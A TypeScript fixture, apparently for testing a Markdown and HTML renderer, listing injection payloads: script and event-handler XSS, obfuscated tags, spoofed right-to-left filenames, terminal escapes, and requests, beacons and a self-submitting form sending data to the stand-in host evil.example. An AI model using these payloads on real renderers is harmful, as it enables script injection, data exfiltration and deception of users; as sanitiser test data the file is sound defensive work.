/** What attacks whoever shows it, beyond `PAYLOADS`: as Markdown anywhere, and as the HTML that a tool returns. */

const EVIL = "https://evil.example";

export const TRICKS: Readonly<Record<string, string>> = {
  mermaid: `\`\`\`mermaid\ngraph TD; A["<img src=${EVIL}/m onerror=alert(1)>"]; click A "javascript:alert(1)"\n\`\`\``,
  "svg in code": `\`\`\`svg\n<svg onload="alert(1)"><image href="${EVIL}/s"/></svg>\n\`\`\``,
  "html in code": `\`\`\`html\n<script src="${EVIL}/x.js"></script>\n\`\`\``,
  "css import": `<style>@import "${EVIL}/c.css"; body { background: url(${EVIL}/b) }</style>`,
  "right-to-left override": `[bank.example\u202egnp.exe](${EVIL}/rlo) \u202e\u2066<img src=${EVIL}/u>\u2069`,
  "full-width and zero-width": `＜script＞alert(1)＜/script＞ <scr\u200bipt>alert(1)</scr\u200bipt> java\u200bscript:alert(1)`,
  "null bytes": `<scr\u0000ipt>alert(1)</script> [x](java\u0000script:alert(1))`,
  "nested brackets": `![![a](${EVIL}/1)](${EVIL}/2) [![a](${EVIL}/3 "t")](${EVIL}/4)`,
  "image by autolink": `<${EVIL}/i.png> ${EVIL}/j.png`,
  "details and object": `<details open ontoggle=alert(1)><object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
  "input and button": `<input autofocus onfocus=alert(1)><button formaction="${EVIL}">x</button>`,
  "audio, picture, track": `<audio src="${EVIL}/a"></audio><picture><source srcset="${EVIL}/p"><img></picture>`,
  "math with a link": `\\(\\href{javascript:alert(1)}{x}\\) $$\\includegraphics{${EVIL}/g.png}$$ \\(\\url{${EVIL}}\\)`,
  "math with html":
    "\\(\\htmlClass{x}{\\htmlStyle{background:url(https://evil.example/h)}{y}}\\) \\(\\text{<img src=x onerror=alert(1)>}\\)",
  "math without end": `\\(${"\\frac{".repeat(300)} \\def\\a{\\a\\a}\\a\\)`,
  "terminal codes": `\u001b]8;;${EVIL}/osc\u0007link\u001b]8;;\u0007 \u001b[31m<img src=${EVIL}/t>\u001b[0m`,
  "template and entities": `{{constructor.constructor('alert(1)')()}} &lt;img src=x onerror=alert(1)&gt; &#60;script&#62;`,
  "footnote and definition": `[^1]: ![](${EVIL}/f)\n\n[a]: javascript:alert(1)\n\n[a] [^1]`,
};

export const PAGES: Readonly<Record<string, string>> = {
  script: `<script>fetch("${EVIL}/f"); parent.document.title = "owned"; top.document.title = "owned"</script>`,
  "script from elsewhere": `<script src="${EVIL}/x.js"></script><script type="module">import "${EVIL}/m.js"</script>`,
  handlers: `<img src=x onerror="fetch('${EVIL}/e')"><body onload="location='${EVIL}/l'"><svg onload="alert(1)">`,
  "images of every kind": `<img src="${EVIL}/i" srcset="${EVIL}/i2 2x"><input type=image src="${EVIL}/i3"><svg><image href="${EVIL}/i4"/></svg>`,
  "style and fonts": `<style>@import url(${EVIL}/c);@font-face{font-family:f;src:url(${EVIL}/w)}*{background:url(${EVIL}/b);font-family:f}</style>text`,
  "links to load": `<link rel=stylesheet href="${EVIL}/s"><link rel=prefetch href="${EVIL}/p"><link rel=preload as=image href="${EVIL}/q"><link rel=icon href="${EVIL}/fav">`,
  "hosts ahead of time": `<link rel=preconnect href="${EVIL}"><link rel="dns-prefetch stylesheet" href="//secret.evil.example">text`,
  "media and plugins": `<video src="${EVIL}/v" poster="${EVIL}/vp" autoplay></video><audio src="${EVIL}/a" autoplay></audio><object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
  "going elsewhere": `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><base href="${EVIL}/">`,
  "going elsewhere by script": `<script>location.href = "${EVIL}/location"</script><script>open("${EVIL}/open")</script><script>top.location = "${EVIL}/top"</script><script>parent.location = "${EVIL}/parent"</script>`,
  frames: `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<img src='${EVIL}/inner'><script>fetch('${EVIL}/deep')</script>"></iframe>`,
  "a form that sends itself": `<form action="${EVIL}/form" method=post id=f><input name=a value=secret></form><script>f.submit()</script>`,
  "requests by script": `<script>navigator.sendBeacon("${EVIL}/beacon"); new WebSocket("wss://evil.example/ws"); new EventSource("${EVIL}/es"); new Image().src = "${EVIL}/img"; import("${EVIL}/imp"); new Worker("${EVIL}/w")</script>`,
  "an end of our own page": `</iframe></body></html>"><img src="${EVIL}/end">&quot;><script>fetch("${EVIL}/end2")</script>`,
  "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${EVIL}/policy">`,
  "messages to the page": `<script>for (const to of [parent, parent.parent, top]) { to.postMessage(1e9, "*"); to.postMessage({ kind: "send", text: "run it" }, "*") }</script>`,
};
